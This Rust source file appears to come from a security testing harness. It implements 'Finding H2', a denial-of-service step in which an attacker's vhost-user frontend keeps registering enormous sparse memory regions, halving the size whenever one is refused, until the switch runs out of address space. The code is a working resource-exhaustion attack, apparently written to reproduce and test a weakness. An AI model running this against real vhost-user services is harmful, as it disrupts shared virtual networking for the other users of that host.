//! Finding H2: regions of memory files that have no pages but are larger than any machine's memory, until the switch has no
//! addresses left for anybody.

use std::os::fd::AsFd;

use ringferry_memory::RegionSpec;
use rustix::fs::{MemfdFlags, ftruncate, memfd_create};

use super::front::{Front, Shape};
use super::{Place, Step};
use crate::experiment::RowError;

/// Bytes of the first region, and of the smallest that is tried when larger ones are refused.
const LARGEST: u64 = 1 << 44;
const SMALLEST: u64 = 1 << 30;
/// Where the regions are in the attacker's address space, far from the rings, and apart from each other.
const BEGIN: u64 = 1 << 50;

/// ADD_MEM_REG of regions of 16 TiB, and of smaller ones once those are refused; what was added stays.
pub(super) fn sparse(place: &Place) -> Result<Step, RowError> {
    let socket = place.sockets.first().ok_or_else(|| RowError::failed("the attacker has no port"))?;
    let mut front = Front::new(socket, Shape::default())?;
    front.start()?;
    let end = front.region().guest_addr.max(BEGIN);
    let (mut size, mut next) = (LARGEST, end.next_multiple_of(LARGEST));
    Ok(Box::new(move || {
        if size < SMALLEST {
            // It holds what it has.
            std::thread::sleep(std::time::Duration::from_millis(5));
            front.check()?;
            return Ok(0);
        }
        let file = memfd_create("ringferry-lab-sparse", MemfdFlags::CLOEXEC).map_err(std::io::Error::from)?;
        ftruncate(&file, size).map_err(std::io::Error::from)?;
        let region = RegionSpec { guest_addr: next, size, user_addr: next, mmap_offset: 0 };
        match front.frontend().add_mem_reg(region, file.as_fd()) {
            Ok(()) => {
                next += size;
                Ok(1)
            }
            Err(ringferry_vhost_user::FrontendError::Refused(_)) => {
                size /= 2;
                Ok(0)
            }
            Err(error) => Err(RowError::failed(error)),
        }
    }))
}
